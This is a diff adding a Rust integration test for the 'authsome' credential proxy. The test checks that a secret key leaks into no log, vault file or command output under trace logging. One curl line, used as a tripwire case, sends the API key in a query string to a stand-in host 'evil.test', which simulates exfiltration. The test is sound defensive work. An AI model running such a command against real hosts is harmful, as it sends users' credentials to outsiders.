@@ -139,3 +139,66 @@ fn secret_appears_only_in_export_stdout() {
     );
     drop(reader);
 }
+
+/// The proxy's side of the sweep: with the daemon logging at trace level,
+/// traffic through `authsome run` (a credential injected, echoed back in
+/// headers and bodies, a refusal, a tripwire, a blind tunnel) leaves no
+/// form of the secret in any file under the home (the request log, the
+/// daemon's log, the vault and its WAL), in the request or audit logs as
+/// the CLI shows them, or in anything the child saw.
+#[test]
+fn the_proxy_path_leaves_no_secret_behind() {
+    let lab = crate::common::lab::Lab::new();
+    lab.cmd(["daemon", "restart"])
+        .env("AUTHSOME_LOG", "trace")
+        .run()
+        .success();
+    let child = lab
+        .run_sh(
+            "curl -sS -D - \"$URL/echo/header\"; curl -sS \"$URL/v1/x?q=1\"; \
+             curl -sS \"$URL/echo/sse\"; curl -sS --compressed \"$URL/echo/gzip\"; \
+             curl -sS \"http://api.acme.test:$UP/refused\"; \
+             curl -sS \"http://evil.test:$HTTP_UP/t?k=$ACME_API_KEY\"; \
+             curl -sS -k -o /dev/null \"https://upstream.test:$UP/blind\"; echo",
+        )
+        .success();
+    let mut outputs = vec![child];
+    for args in [
+        &["log", "--requests"][..],
+        &["log", "--requests", "--json"],
+        &["log", "--json"],
+        &["daemon", "logs"],
+    ] {
+        outputs.push(lab.cmd(args.iter().copied()).run().success());
+    }
+    for o in &outputs {
+        let label = o.args.join(" ");
+        assert_clean(
+            &format!("stdout of `{label}`"),
+            o.stdout.as_bytes(),
+            &lab.key,
+        );
+        assert_clean(
+            &format!("stderr of `{label}`"),
+            o.stderr.as_bytes(),
+            &lab.key,
+        );
+    }
+    // The request log has the traffic (so the sweep below looked at it).
+    assert!(
+        outputs[2].stdout.contains("/echo/header"),
+        "{}",
+        outputs[2].stdout
+    );
+    let files = walk(lab.home.dir.path());
+    assert!(
+        files.iter().any(|p| p.ends_with("logs/requests.jsonl")),
+        "{files:?}"
+    );
+    for p in &files {
+        let bytes = std::fs::read(p).unwrap();
+        assert_clean(&p.display().to_string(), &bytes, &lab.key);
+    }
+    let log = std::fs::read_to_string(lab.home.path("logs/authsome.log")).unwrap();
+    assert!(log.contains("TRACE") || log.contains("DEBUG"), "{log}");
+}
